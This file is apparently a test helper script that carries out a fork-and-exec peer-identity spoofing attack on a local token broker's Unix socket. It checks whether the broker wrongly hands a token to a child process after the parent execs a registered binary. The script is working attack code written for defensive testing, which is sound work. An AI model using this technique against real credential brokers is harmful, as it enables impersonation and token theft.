#!/usr/bin/env python3
# The broker peer-identity attack: connect to the broker socket, fork, and let the PARENT (the process
# the kernel recorded at connect) exec the registered binary while the CHILD keeps the socket and asks
# for a token. Usage: fork-exec-peer.py SOCKET REGISTERED_BINARY AUDIENCE MODE MARKER
#   MODE child-answers  the child answers the agent's challenge (natural timing);
#        parent-answers the parent answers the challenge itself, then execs; the child goes on;
#   MARKER          a file the child creates once the parent runs the registered binary (the test may
#                   hold the agent until then, the worst order for it).
# Prints one JSON line: what the child got back (a token would be a wrong accept).
import json, os, socket, sys, time

path, registered, audience, mode, marker = sys.argv[1:6]
s = socket.socket(socket.AF_UNIX)
s.connect(path)
f = s.makefile('rb')


def first_line(timeout):
    s.settimeout(timeout)
    try:
        line = f.readline()
    except socket.timeout:
        line = b''
    s.settimeout(None)
    return json.loads(line) if line.strip() else None


def hello(msg):
    params = {'nonce': msg['nonce']} if msg and 'nonce' in msg else {}
    s.sendall(json.dumps({'id': 1, 'method': 'hello', 'params': params}).encode() + b'\n')


if mode == 'parent-answers':
    msg = first_line(2.0)
    if msg is not None and 'error' in msg:
        print(json.dumps({'refused': msg['error']['code']}), flush=True)
        sys.exit(0)
    hello(msg)

pid = os.fork()
if pid > 0:
    # Parent: become the registered binary (kept alive long enough for the child's requests).
    os.execv(registered, [registered, '-e', 'setTimeout(() => {}, 4000)'])

# Child: holds the socket and talks on it.
parent = os.getppid()
want = os.path.realpath(registered)
end = time.time() + 5
while time.time() < end:
    try:
        if os.path.realpath(os.readlink(f'/proc/{parent}/exe')) == want:
            break
    except OSError:
        pass
    time.sleep(0.001)
open(marker, 'w').close()

out = {}
try:
    if mode == 'child-answers':
        msg = first_line(2.0)
        if msg is not None and 'error' in msg:
            out['refused'] = msg['error']['code']
        else:
            hello(msg)
    if 'refused' not in out:
        s.sendall(json.dumps({'id': 2, 'method': 'getToken', 'params': {'audience': audience}}).encode() + b'\n')
        s.settimeout(6.0)
        while True:
            line = f.readline()
            if not line:
                out.setdefault('closed', True)
                break
            m = json.loads(line)
            if m.get('id') == 2:
                out['token' if 'result' in m else 'error'] = m.get('result') or m['error']['code']
                break
            if m.get('id') is None and 'error' in m:
                out['refused'] = m['error']['code']
                break
except (OSError, ValueError) as e:
    out['closed'] = str(e)
print(json.dumps(out), flush=True)
